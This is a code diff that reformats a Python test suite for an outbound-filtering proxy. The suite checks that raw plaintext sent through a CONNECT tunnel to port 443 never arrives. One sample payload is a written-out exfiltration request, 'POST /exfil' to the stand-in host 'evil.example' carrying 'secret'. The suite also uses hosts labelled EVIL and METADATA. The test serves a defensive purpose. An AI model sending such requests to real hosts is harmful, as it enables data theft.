@@ -12,9 +12,9 @@ import struct  # noqa: E402
 import time  # noqa: E402
 
 from lib import case, main, skip  # noqa: E402
-from netlab import (ALLOWED, ALLOWED6, CGNAT, EVIL, METADATA, NAT64, OTHER, PRIVATE, ULA6,  # noqa: E402
-                    Nameserver, Proxy, Server, ask, ask_dns, banner, drain, echo, http,
-                    read_response, socks, tunnel)
+from netlab import (ALLOWED, ALLOWED6, CGNAT, EVIL, METADATA, NAT64,  # noqa: E402
+                    OTHER, PRIVATE, ULA6, Nameserver, Proxy, Server, ask, ask_dns,
+                    banner, drain, echo, http, read_response, socks, tunnel)
 
 servers = {(a, 80): Server(a, 80, http)
            for a in (ALLOWED, OTHER, EVIL, PRIVATE, METADATA, CGNAT, "127.0.0.1", ALLOWED6,
@@ -307,9 +307,10 @@ def end(s):
 @case
 def plain_text_in_a_tunnel_to_443_never_arrives():
     proxy = allowing()
-    for payload in (b"POST /exfil HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 6\r\n\r\nsecret",
-                    b"SSH-2.0-OpenSSH\r\n", b"\x16\x03", b"\x80\x2e\x01\x03\x01" + b"x" * 60,
-                    b"\0" * 100, b"\x16\x03\x01\x00\x05\x02\0\0\x01\0"):
+    for payload in (b"POST /exfil HTTP/1.1\r\nHost: evil.example\r\n"
+                    b"Content-Length: 6\r\n\r\nsecret", b"SSH-2.0-OpenSSH\r\n", b"\x16\x03",
+                    b"\x80\x2e\x01\x03\x01" + b"x" * 60, b"\0" * 100,
+                    b"\x16\x03\x01\x00\x05\x02\0\0\x01\0"):
         s = tunnel(proxy, "allowed.example:443")
         assert not isinstance(s, bytes)
         s.sendall(payload)
